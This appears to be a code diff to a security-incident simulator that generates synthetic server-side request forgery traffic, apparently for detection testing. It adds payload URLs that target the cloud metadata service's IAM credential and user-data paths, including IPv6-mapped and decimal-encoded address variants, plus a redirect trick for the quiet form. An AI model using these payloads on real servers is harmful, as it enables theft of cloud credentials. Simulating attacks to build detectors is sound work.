@@ -1,3 +1,4 @@
+import type { Random } from '../../large/random.ts';
 import { MINUTE_MS } from '../core/calendar.ts';
 import type { Incident } from '../core/incident.ts';
 
@@ -26,7 +27,27 @@ const FORMS: readonly (readonly [url: string, status: number, bytes?: number])[]
   ['file:///etc/hostname', 400],
 ];
 
-const INNER = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/preview-role';
+/** What the metadata service is asked for in the quiet form. */
+const INNER: readonly string[] = [
+  'http://169.254.169.254/latest/meta-data/iam/security-credentials/preview-role',
+  'http://169.254.169.254/latest/user-data',
+  'http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/security-credentials/',
+  'http://2852039166/latest/dynamic/instance-identity/document',
+];
+/** Of all the ways that many are tried. */
+const TRIED = 16;
+
+/** Some of the ways, in an order of the seed, with hosts and roles of the seed. */
+function formsOf(random: Random): typeof FORMS {
+  const [third, role] = [String(random.int(1, 250)), random.pick(['preview-role', 'app-instance', 'node-worker', 'media-fetch'])];
+  return FORMS.map((form) => [random.next(), form] as const)
+    .toSorted(([left], [right]) => left - right)
+    .slice(0, TRIED)
+    .map(([, [url, ...rest]]) => [
+      url.replace('10.0.0.5', `10.0.${third}.5`).replace('172.16.0.10', `172.16.${third}.10`).replace('preview-role', role),
+      ...rest,
+    ]);
+}
 
 /**
  * The company's own server is made to fetch what only it can reach.
@@ -41,16 +62,19 @@ export const ssrf: Incident = {
     const { operation, parameter, by } = roles.fetchUrl;
     const session = open(by, start);
     if (form === 'loud') {
-      for (const [url, status, responseBytes] of FORMS) {
+      for (const [url, status, responseBytes] of formsOf(session.random)) {
         session.call(operation, { query: { [parameter]: url }, status, ...(responseBytes === undefined ? {} : { responseBytes }) });
         session.think(9000);
       }
       return;
     }
-    for (const picture of ['/p/4411.png', '/p/4412.png', undefined, '/p/4413.png']) {
+    const { random } = session;
+    const inner = random.pick(INNER);
+    const pictures = [0, 1, 2].map(() => `/p/${String(random.int(1000, 9999))}.png`);
+    for (const picture of [...pictures.slice(0, 2), undefined, ...pictures.slice(2)]) {
       const url =
         picture === undefined
-          ? `https://go.${roles.foreign.host}/r?ref=preview&to=${encodeURIComponent(INNER)}`
+          ? `https://go.${roles.foreign.host}/r?ref=preview&to=${encodeURIComponent(inner)}`
           : `https://img.${roles.foreign.host}${picture}`;
       session.call(operation, {
         query: { [parameter]: url },
